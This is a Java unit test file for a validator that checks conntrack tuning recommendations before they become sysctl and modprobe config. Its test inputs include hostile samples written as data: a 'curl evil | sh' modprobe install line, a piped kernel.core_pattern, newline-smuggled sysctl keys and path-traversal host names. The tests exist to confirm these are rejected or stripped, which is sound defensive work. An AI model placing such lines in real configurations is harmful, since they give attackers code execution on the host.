package io.conntrackadvisor.sink;

import static io.conntrackadvisor.sink.TestData.BUCKETS;
import static io.conntrackadvisor.sink.TestData.MAX;
import static io.conntrackadvisor.sink.TestData.T;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.conntrackadvisor.model.ConntrackSample;
import io.conntrackadvisor.model.Recommendation;
import io.conntrackadvisor.model.Severity;
import io.conntrackadvisor.model.TopNamespace;
import java.time.Clock;
import java.time.Duration;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import org.assertj.core.api.AbstractThrowableAssert;
import org.junit.jupiter.api.Test;

class RecommendationValidatorTest {
  private final HostMemory memory = new HostMemory();
  private final RecommendationValidator validator = new RecommendationValidator(memory, 0.5,
      Clock.fixed(T.plusSeconds(3600), ZoneOffset.UTC));

  private static Recommendation recommend(Map<String, Long> recommended, String modprobe) {
    return new Recommendation("lb-1", T, Severity.CRITICAL, Map.of(MAX, 200L), recommended, List.of("why"),
        "ignored", modprobe);
  }

  private AbstractThrowableAssert<?, ?> assertRejected(Recommendation r, RejectReason reason) {
    return assertThatThrownBy(() -> validator.validate(r)).isInstanceOf(RecordRejectedException.class)
        .matches(e -> ((RecordRejectedException) e).reason() == reason, "reason " + reason);
  }

  @Test
  void shouldKeepTheCheckedValuesAndNeverTheReadyMadeText() throws Exception {
    Recommendation r = new Recommendation("lb-1", T, Severity.CRITICAL, Map.of(MAX, 200L), Map.of(MAX, 262144L),
        List.of("fine"), "kernel.core_pattern = |/tmp/evil\n", null);

    ValidRecommendation v = validator.validate(r);

    assertThat(v.recommended()).containsExactly(Map.entry(MAX, 262144L));
    assertThat(v.sysctlConf()).doesNotContain("core_pattern").endsWith(MAX + " = 262144\n");
  }

  @Test
  void shouldRejectNonPositiveAndTooLargeValues() {
    assertRejected(recommend(Map.of(MAX, 0L), null), RejectReason.VALUE_RANGE);
    assertRejected(recommend(Map.of(MAX, -5L), null), RejectReason.VALUE_RANGE);
    assertRejected(recommend(Map.of(MAX, 1L << 31), null), RejectReason.VALUE_RANGE).hasMessageContaining("2147483647");
    assertRejected(recommend(Map.of(MAX, Long.MAX_VALUE), null), RejectReason.VALUE_RANGE);
  }

  @Test
  void shouldAcceptTheLargestIntegerTheKernelTakes() throws Exception {
    assertThat(validator.validate(recommend(Map.of(MAX, (long) Integer.MAX_VALUE), null)).recommendedMax())
        .isEqualTo(2147483647L);
  }

  @Test
  void shouldRejectSettingsOutsideNetNetfilterConntrack() {
    assertRejected(recommend(Map.of("kernel.core_pattern", 1L), null), RejectReason.SYSCTL_NAME);
    assertRejected(recommend(Map.of("net.ipv4.ip_forward", 1L), null), RejectReason.SYSCTL_NAME);
    assertRejected(recommend(Map.of(MAX + " = 1\nkernel.panic", 1L), null), RejectReason.SYSCTL_NAME);
    assertRejected(recommend(Map.of("net.netfilter.nf_conntrack_max/../x", 1L), null), RejectReason.SYSCTL_NAME);
    Recommendation badCurrent = new Recommendation("lb-1", T, Severity.INFO, Map.of("vm.swappiness", 1L), Map.of(),
        List.of(), "", null);
    assertRejected(badCurrent, RejectReason.SYSCTL_NAME);
  }

  @Test
  void shouldRejectUnsafeHostNames() {
    Recommendation r = new Recommendation("../../etc", T, Severity.CRITICAL, Map.of(), Map.of(MAX, 1024L),
        List.of(), "", null);
    assertRejected(r, RejectReason.HOST_NAME);
  }

  @Test
  void shouldRejectATableLargerThanHalfTheHostsMemoryOnceTheMemoryIsKnown() throws Exception {
    Recommendation huge = recommend(Map.of(MAX, 16_000_000L), null); // 16M x 320 B = 4.8 GiB
    assertThat(validator.validate(huge).recommendedMax()).isEqualTo(16_000_000L);

    memory.learn(new ConntrackSample("lb-1", T, 1, 200, null, 8L << 30, 4, null, null, null, null));

    assertRejected(huge, RejectReason.MEMORY).hasMessageContaining("8192 MiB");
    assertThat(validator.validate(recommend(Map.of(MAX, 262144L), null)).recommendedMax()).isEqualTo(262144L);
  }

  @Test
  void shouldCheckTheHashSizeNumberAndNeverPassTheRecordsModprobeTextOn() throws Exception {
    ValidRecommendation v = validator.validate(TestData.withHashsize("lb-1", 262144, 65536));
    assertThat(v.hashsize()).isEqualTo(65536L);
    assertThat(v.modprobeConf()).endsWith("\noptions nf_conntrack hashsize=65536\n");

    ValidRecommendation evil = validator.validate(withHashsize(Map.of(MAX, 1024L), 1024L,
        "install nf_conntrack /bin/sh -c 'curl evil | sh'"));
    assertThat(evil.modprobeConf().lines().filter(l -> !l.startsWith("#")))
        .containsExactly("options nf_conntrack hashsize=1024");
    assertRejected(withHashsize(Map.of(MAX, 1024L), 99_999_999_999L, null), RejectReason.VALUE_RANGE);
    assertRejected(withHashsize(Map.of(MAX, 1024L), 0L, null), RejectReason.VALUE_RANGE);
    assertRejected(withHashsize(Map.of(MAX, 1024L, BUCKETS, 512L), 1024L, null), RejectReason.MODPROBE)
        .hasMessageContaining("differs");
  }

  private static Recommendation withHashsize(Map<String, Long> recommended, Long hashsize, String modprobe) {
    return new Recommendation("lb-1", T, Severity.CRITICAL, Map.of(MAX, 200L), recommended, List.of("why"),
        "ignored", modprobe, null, hashsize);
  }

  @Test
  void shouldStripControlCharactersFromReasons() throws Exception {
    Recommendation r = new Recommendation("lb-1", T, Severity.WARNING, Map.of(), Map.of(MAX, 1024L),
        List.of("line one\nnet.ipv4.ip_forward = 1", "bell\u0007 and \u202eRTL override", "x".repeat(5000)),
        "", null);

    ValidRecommendation v = validator.validate(r);

    assertThat(v.reasons().get(0)).isEqualTo("line one net.ipv4.ip_forward = 1");
    assertThat(v.reasons().get(1)).isEqualTo("bell  and  RTL override");
    assertThat(v.reasons().get(2)).hasSize(RecommendationValidator.MAX_REASON_CHARS + 1);
    assertThat(v.sysctlConf().lines().filter(l -> !l.startsWith("#")))
        .containsExactly(MAX + " = 1024");
  }

  @Test
  void shouldRejectATimeFarAheadOfTheSinksClockBecauseItWouldShadowAllLaterAdvice() throws Exception {
    assertThat(validator.validate(TestData.raiseMax("lb-1", 1024, T.plus(Duration.ofHours(20)))).host())
        .as("within the clock skew allowed").isEqualTo("lb-1");
    assertRejected(TestData.raiseMax("lb-1", 1024, T.plus(Duration.ofDays(365))), RejectReason.VALUE_RANGE)
        .hasMessageContaining("future");
  }

  @Test
  void shouldGiveTheSameDigestToTheSameAdviceMadeAtAnotherTime() throws Exception {
    ValidRecommendation a = validator.validate(TestData.raiseMax("lb-1", 262144, T));
    ValidRecommendation b = validator.validate(TestData.raiseMax("lb-1", 262144, T.plusSeconds(600)));
    ValidRecommendation c = validator.validate(TestData.raiseMax("lb-1", 524288, T));

    assertThat(a.digest()).hasSize(64).isEqualTo(b.digest()).isNotEqualTo(c.digest());
  }

  @Test
  void shouldKeepTopNamespacesAsPlainTextAndBounded() throws Exception {
    TopNamespace[] many = new TopNamespace[15];
    many[0] = TestData.namespace(4026532177L, 200, "3f2a\n<b>\u202e", "nginx\u0000", "sh");
    for (int i = 1; i < many.length; i++) {
      many[i] = TestData.namespace(4026532177L + i, 10, null, "p".repeat(500));
    }

    ValidRecommendation v = validator.validate(TestData.withNamespaces("lb-1", 262144, many));

    assertThat(v.namespaces()).hasSize(RecommendationValidator.MAX_NAMESPACES);
    assertThat(v.namespaces().get(0).container()).isEqualTo("3f2a <b>");
    assertThat(v.namespaces().get(0).processes()).containsExactly("nginx", "sh");
    assertThat(v.namespaces().get(1).processes().get(0))
        .hasSize(RecommendationValidator.MAX_OWNER_CHARS + 1).endsWith("…");
    assertThat(validator.validate(TestData.raiseMax("lb-1", 262144)).namespaces()).isEmpty();
  }

  @Test
  void shouldRejectNamespaceNumbersOutOfRange() {
    assertRejected(TestData.withNamespaces("lb-1", 1024, TestData.namespace(7L, -1, null)), RejectReason.VALUE_RANGE)
        .hasMessageContaining("namespace 7");
    assertRejected(TestData.withNamespaces("lb-1", 1024, new TopNamespace(7L, 10, Double.POSITIVE_INFINITY, null,
        null, null, null, null)), RejectReason.VALUE_RANGE);
    assertRejected(TestData.withNamespaces("lb-1", 1024, new TopNamespace(7L, 10, 0.05, -3L, null, null, null,
        null)), RejectReason.VALUE_RANGE);
  }

  @Test
  void shouldKeepTheDigestWhenOnlyTheNamespaceCountsChange() throws Exception {
    ValidRecommendation a = validator.validate(TestData.withNamespaces("lb-1", 262144,
        TestData.namespace(7L, 150, "3f2a1b9c0d4e")));
    ValidRecommendation b = validator.validate(TestData.withNamespaces("lb-1", 262144,
        TestData.namespace(7L, 199, "3f2a1b9c0d4e")));

    assertThat(a.digest()).isEqualTo(b.digest());
  }
}
